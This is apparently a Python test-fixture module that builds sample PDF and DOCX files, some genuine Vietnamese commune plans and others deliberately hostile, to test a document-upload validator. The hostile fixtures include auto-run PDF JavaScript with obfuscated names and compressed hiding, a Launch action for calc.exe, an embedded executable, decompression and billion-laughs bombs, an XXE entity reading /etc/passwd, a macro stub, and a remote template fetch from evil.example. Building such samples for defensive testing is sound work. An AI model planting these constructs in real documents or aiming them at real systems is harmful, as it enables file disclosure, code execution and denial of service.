"""Makes files: honest ones, hurt ones, and bombs."""

import io
import re
import struct
import zipfile
import zlib
from datetime import date
from pathlib import Path
from typing import Final

import font_source_sans_pro
import pypdf
from PIL import Image, ImageDraw, ImageFont

from kheo.papers.making import Format, make
from kheo.papers.rules.parts import (
    Authority,
    Issuer,
    IssuerKind,
    Level,
    Node,
    Number,
    Paper,
    PlaceAndDate,
    SignatureBlock,
    Title,
    Warrant,
)

WORD_SPACE: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TITLE: Final = "Tăng cường đối thoại với Nhân dân ở cơ sở"
OBJECT: Final = re.compile(rb"^(\d+) 0 obj", re.MULTILINE)
WORDS: Final = (
    "Thực hiện Chỉ thị số 33/CT-TTg ngày 26/11/2021 của Thủ tướng Chính phủ, các thôn, tổ dân phố "
    "tổ chức đối thoại với Nhân dân mỗi quý một lần."
)


def paper(number: int = 21) -> Paper:
    """A plan of an invented commune."""
    return Paper(
        issuers=(Issuer("Ủy ban nhân dân xã Đăk Lin", IssuerKind.STATE),),
        number=Number("UBND", "KH", number),
        place_and_date=PlaceAndDate("Đăk Lin", date(2026, 3, 5)),
        title=Title("Kế hoạch", TITLE),
        body=(Node(Level.TEXT, WORDS),),
        signatures=(
            SignatureBlock(
                "Bùi Văn An", "Chủ tịch", (Warrant(Authority.ON_BEHALF, "Ủy ban nhân dân"),)
            ),
        ),
    )


def honest_pdf(number: int = 21) -> bytes:
    return make(paper(number), Format.PDF)


def honest_docx(number: int = 21) -> bytes:
    return make(paper(number), Format.DOCX)


def pdf(pages: int = 1, extra: bytes = b"", catalog: bytes = b"") -> bytes:
    """A PDF of blank pages, with further objects and words of its catalog."""
    kids = b" ".join(b"%d 0 R" % (n + 10) for n in range(pages))
    parts = [
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + catalog + b">>endobj\n",
        b"2 0 obj<</Type/Pages/Count %d/Kids[%s]>>endobj\n" % (pages, kids),
        extra,
    ]
    parts += [
        b"%d 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n" % (n + 10)
        for n in range(pages)
    ]
    body = b"".join(parts)
    places = {int(found[1]): found.start(1) for found in OBJECT.finditer(body)}
    rows = [places.get(number, 0) for number in range(pages + 10)]
    table = b"".join(b"%010d 00000 %s \n" % (at, b"n" if at else b"f") for at in rows)
    ending = b"xref\n0 %d\n%strailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n"
    return body + ending % (len(rows), table, len(rows), len(body))


def scripted_pdf() -> bytes:
    return pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")


def misspelled_script_pdf() -> bytes:
    """The same names in other letters: /JavaScript is /J#61vaScript."""
    action = b"5 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj\n"
    return pdf(extra=action, catalog=b"/OpenAction 5 0 R")


def packed_script_pdf() -> bytes:
    """A script in a packed object, where no search of the bytes sees it."""
    inner = zlib.compress(b"6 0 <</S/JavaScript/JS(app.alert(1))>>")
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(inner), inner),
    }
    body, places = b"%PDF-1.7\n", dict[int, tuple[int, int, int]]()
    for number, words in objects.items():
        places[number] = (1, len(body), 0)
        body += b"%d 0 obj%s endobj\n" % (number, words)
    places[6], places[7] = (2, 5, 0), (1, len(body), 0)
    rows = [places.get(number, (0, 0, 0)) for number in range(8)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"7 0 obj<</Type/XRef/Size 8/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    start = len(body)
    return body + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start


def launching_pdf() -> bytes:
    return pdf(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>")


def carrying_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("virus.exe", b"MZ")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def encrypted_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("secret", algorithm="RC4-128")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def truncated_pdf() -> bytes:
    whole = honest_pdf()
    return whole[: len(whole) // 2]


def bomb_pdf() -> bytes:
    """A page whose content unpacks to 300 MB."""
    packed = zlib.compress(b"0 0 m " * 50_000_000, 9)
    stream = b"9 0 obj<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream endobj\n"
    page = b"/Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]"
    return pdf(extra=stream % (len(packed), packed)).replace(page, page + b"/Contents 9 0 R")


def docx(xml: str, **more: bytes) -> bytes:
    """A package with this main part, and others."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", "<Types/>")
        package.writestr("word/document.xml", xml)
        for name, content in more.items():
            package.writestr(name.replace("__", "/"), content)
    return target.getvalue()


def worded(text: str) -> str:
    return (
        f'<w:document xmlns:w="{WORD_SPACE}"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )


def bomb_docx() -> bytes:
    return docx(worded("a" * 90_000_000))


def many_bombs_docx() -> bytes:
    """Many parts, each small beside its packed length, together too much."""
    part = bytes(range(256)) * 4000
    more = {f"word__media__{n}.bin": part for n in range(120)}
    return docx(worded("x"), **more)


def entity_docx() -> bytes:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    return docx(f'<!DOCTYPE x [<!ENTITY l0 "lol">{lol}]>{worded("&l8;")}')


def outside_docx() -> bytes:
    return docx(f'<!DOCTYPE x [<!ENTITY p SYSTEM "file:///etc/passwd">]>{worded("&p;")}')


def macro_docx() -> bytes:
    return docx(worded("x"), **{"word__vbaProject.bin": b"\xd0\xcf"})


def fetching_docx() -> bytes:
    rels = (
        b'<Relationships><Relationship Type="http://x/attachedTemplate" '
        b'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    )
    return docx(worded("x"), **{"word___rels__settings.xml.rels": rels})


def truncated_docx() -> bytes:
    whole = honest_docx()
    return whole[: len(whole) // 2]


def xlsx() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("xl/workbook.xml", "<x/>")
    return target.getvalue()


def encrypted_docx() -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return head + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)


def old_word() -> bytes:
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    return head + bytes(500) + "WordDocument".encode("utf-16-le") + bytes(500)


def scan(lines: list[str]) -> bytes:
    """A PDF that is a picture of lines."""
    folder = Path(next(iter(font_source_sans_pro.__path__)))
    face = next(
        path for path in sorted(folder.rglob("*Regular*")) if path.suffix in {".ttf", ".otf"}
    )
    font = ImageFont.truetype(str(face), 44)
    sheet = Image.new("L", (1654, 2339), 255)
    for n, line in enumerate(lines):
        ImageDraw.Draw(sheet).text((160, 160 + 90 * n), line, font=font, fill=0)
    target = io.BytesIO()
    sheet.save(target, "PDF", resolution=200)
    return target.getvalue()
